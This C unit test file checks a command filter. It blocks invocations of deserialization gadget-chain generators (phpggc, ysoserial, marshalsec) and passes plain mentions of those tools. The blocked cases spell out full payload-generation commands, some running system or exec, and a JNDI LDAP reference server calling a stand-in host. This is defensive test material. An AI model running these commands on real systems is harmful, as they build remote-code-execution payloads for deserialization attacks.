/** Command lines of generators of gadget chains. */
#include "tests/unit/filter_alone.h"

static void blocks_commands_that_make_chains(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"PHP's", PEN_STR("phpggc Monolog/RCE2 system 'id' -p phar -o /tmp/a.ini")},
        {"with an option before", PEN_STR("./phpggc -b Laravel/RCE9 system id")},
        {"run by its interpreter", PEN_STR("php phpggc Symfony/RCE4 exec 'id'")},
        {"Java's", PEN_STR("java -jar ysoserial.jar CommonsCollections1 'calc.exe'")},
        {"Java's, from a folder",
         PEN_STR("java -jar /opt/ysoserial-all.jar URLDNS http://h.example")},
        {".NET's",
         PEN_STR("ysoserial.exe -g ObjectDataProvider -f Json.Net -c \"calc.exe\" -o base64")},
        {"a server of references", PEN_STR("java -cp marshalsec-0.0.3-all.jar "
                                           "marshalsec.jndi.LDAPRefServer http://h.example/#X")},
    };
    filter_case_blocks(&it, "deser", rows, PEN_COUNT_OF(rows));
}

static void passes_mentions_of_the_tools(void **state)
{
    (void)state;
    static const struct filter_row rows[] = {
        {"a sentence", PEN_STR("phpggc is a tool for PHP gadget chains")},
        {"a list", PEN_STR("phpggc -l")},
        {"a title", PEN_STR("ysoserial: A proof-of-concept tool for generating payloads")},
        {"a file", PEN_STR("ysoserial.jar")},
        {"its address", PEN_STR("see https://github.com/frohoff/ysoserial")},
        {"help", PEN_STR("java -jar ysoserial.jar --help")},
        {"another program", PEN_STR("java -jar app.jar CommonsCollections1")},
    };
    filter_case_passes(&it, "deser", rows, PEN_COUNT_OF(rows));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(blocks_commands_that_make_chains),
        cmocka_unit_test(passes_mentions_of_the_tools),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
